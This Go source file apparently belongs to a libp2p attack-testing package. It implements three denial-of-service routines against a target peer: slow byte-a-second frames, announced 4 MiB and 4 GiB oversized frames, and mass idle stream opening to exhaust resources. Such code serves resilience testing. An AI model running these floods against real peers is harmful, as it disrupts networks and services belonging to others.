package attacktest

import (
	"context"
	"encoding/binary"
	"sync"
	"time"

	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/protocol"
)

// onEach opens streams of every protocol of the target, as many as streams says of each, and calls f with each of them, at
// once, until they all return.
func onEach(ctx context.Context, h host.Host, t Target, streams int, f func(network.Stream)) error {
	var open sync.WaitGroup
	for _, id := range served(h, t) {
		for range streams {
			open.Go(func() {
				if s, err := newStream(ctx, h, t, id); err == nil {
					defer s.Reset()
					defer context.AfterFunc(ctx, func() { s.Reset() })()
					f(s)
				}
			})
		}
	}
	open.Wait()
	return connected(h, t)
}

func newStream(ctx context.Context, h host.Host, t Target, id protocol.ID) (network.Stream, error) {
	ctx, cancel := context.WithTimeout(network.WithNoDial(ctx, "attack"), 5*time.Second)
	defer cancel()
	return h.NewStream(ctx, t.ID, id)
}

// SlowFrames promises, as n peers, a message on every protocol and sends it a byte a second.
func SlowFrames(ctx context.Context, t Target, n int) error {
	promise := binary.AppendUvarint(nil, 4<<10)
	return hands(ctx, n, func(ctx context.Context) error {
		return intrude(ctx, t, func(h host.Host) error {
			return onEach(ctx, h, t, 2, func(s network.Stream) {
				for b := promise; ctx.Err() == nil; b = []byte{'x'} {
					s.SetWriteDeadline(time.Now().Add(2 * time.Second))
					if _, err := s.Write(b); err != nil {
						return
					}
					rest(ctx, time.Second)
				}
			})
		})
	})
}

// OversizedFrames promises, as n peers, a message of 4 MiB, and then of 4 GiB, on every protocol and begins to send it.
func OversizedFrames(ctx context.Context, t Target, n int) error {
	junk := make([]byte, 256<<10)
	return hands(ctx, n, func(ctx context.Context) error {
		return intrude(ctx, t, func(h host.Host) error {
			for _, size := range []uint64{4<<20 - 1, 4 << 30} {
				if err := onEach(ctx, h, t, 4, func(s network.Stream) {
					s.SetWriteDeadline(time.Now().Add(5 * time.Second))
					_, err := s.Write(binary.AppendUvarint(nil, size))
					for range 15 { // all but the last of 4 MiB: now it waits
						if err == nil && ctx.Err() == nil {
							_, err = s.Write(junk)
						}
					}
					if err == nil {
						rest(ctx, 5*time.Second)
					}
				}); err != nil {
					return err
				}
			}
			return nil
		})
	})
}

// Streams opens, as n peers, streams of every protocol as fast as it can, and leaves them as they are.
func Streams(ctx context.Context, t Target, n int) error {
	return hands(ctx, n, func(ctx context.Context) error {
		return intrude(ctx, t, func(h host.Host) error {
			for ctx.Err() == nil {
				if err := onEach(ctx, h, t, 16, func(network.Stream) {}); err != nil {
					return err
				}
				for _, c := range h.Network().ConnsToPeer(t.ID) {
					for range 256 {
						if _, err := c.NewStream(ctx); err != nil { // and nothing is said on it
							break
						}
					}
				}
			}
			return nil
		})
	})
}
